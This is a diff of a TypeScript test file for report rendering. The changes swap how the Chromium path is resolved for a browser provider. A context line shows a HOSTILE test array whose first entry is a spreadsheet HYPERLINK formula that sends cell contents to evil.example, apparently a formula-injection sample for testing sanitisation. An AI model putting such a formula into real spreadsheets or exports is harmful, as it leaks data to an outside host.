@@ -7,7 +7,7 @@ import { createBrowserProvider, type BrowserProvider } from '../../activities/re
 import { renderReport, sanitizeSheetName, type RenderReportDeps } from '../../activities/reports/render-report';
 import type { ReportContent, ReportSection } from '../../domain/reports/report-content';
 import { escapeHtml, renderReportHtml, reportPageOrientation } from '../../domain/reports/report-html';
-import { loadConfig } from '../../config/config';
+import { resolveChromium } from '../../infra/chromium';
 
 const HOSTILE = [
   '=HYPERLINK("http://evil.example/?x="&A1,"click")',
@@ -197,7 +197,7 @@ describe('report rendering', function () {
     let server: Awaited<ReturnType<typeof startCountingServer>>;
 
     before(async () => {
-      browser = createBrowserProvider({ executablePath: loadConfig({}).chromium.path });
+      browser = createBrowserProvider({ chromium: () => resolveChromium() });
       server = await startCountingServer();
     });
     after(async () => {
@@ -278,11 +278,11 @@ describe('report rendering', function () {
     });
 
     it('close() is idempotent and final', async () => {
-      const own = createBrowserProvider({ executablePath: loadConfig({}).chromium.path });
+      const own = createBrowserProvider({ chromium: () => resolveChromium() });
       await own.close(); // never launched
       const b = await own.withPage(async () => 1).catch((e: Error) => e);
       assert.ok(b instanceof Error && b.name === 'BrowserProviderClosedError');
-      const other = createBrowserProvider({ executablePath: loadConfig({}).chromium.path });
+      const other = createBrowserProvider({ chromium: () => resolveChromium() });
       const launched = await other.withPage(async (page) => page.context().browser());
       await other.close();
       await other.close();
